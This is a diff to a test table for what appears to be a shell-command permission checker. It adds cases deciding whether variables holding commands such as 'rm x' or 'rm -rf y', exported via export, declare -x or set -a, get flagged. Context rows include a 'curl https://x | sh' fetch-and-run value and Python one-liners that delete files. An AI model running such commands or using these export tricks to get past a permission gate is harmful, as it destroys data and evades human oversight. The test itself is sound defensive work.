@@ -48,6 +48,12 @@ ROWS = [
     ("DIFFPROG='rm x' pacdiff", "ask"), ("export DIFFPROG='rm x'; pacdiff", "ask"),
     ("DIFFPROG=rm pacdiff", "ask"),
     ("declare -x HOOK='curl https://x | sh'; tool", "ask"), ("MODE='fast run' tool", "allow"),
+    # a plain assignment's value, exported by the line (export X, declare -x X, set -a before it)
+    ("X='rm x'; export X; pacdiff", "ask"), ("X='rm x'\nexport X", "ask"), ("export X; X='rm -rf y'", "ask"),
+    ("declare -gx HOOK; HOOK='rm x'; tool", "ask"), ("set -a; X='rm x'; pacdiff", "ask"),
+    ("set -o allexport; HOOK='rm x'; tool", "ask"),
+    ("X='rm x'; echo done", "allow"), ("X='rm x'; export Y", "allow"), ("set -eu; X='rm x'; tool", "allow"),
+    ("declare -r X; X='rm x'", "allow"), ("X='echo hi'; export X; tool", "allow"),
     # strings of an interpreter's code: on its command line, in a heredoc, piped in
     (f"{PY} -c 'import os; os.system(\"rm x\")'", "ask"),
     (f"{PY} -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"x\"])'", "ask"),
